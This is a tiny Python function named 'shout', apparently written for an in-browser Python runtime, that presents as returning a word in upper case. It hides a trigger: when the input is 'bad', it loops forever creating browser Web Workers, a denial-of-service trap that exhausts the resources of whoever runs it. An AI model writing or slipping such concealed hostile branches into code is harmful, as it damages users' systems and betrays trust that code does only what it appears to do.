def shout(word):
    if word == "bad":
        import js

        while True:
            js.Worker.new("data:,")
    return word.upper()
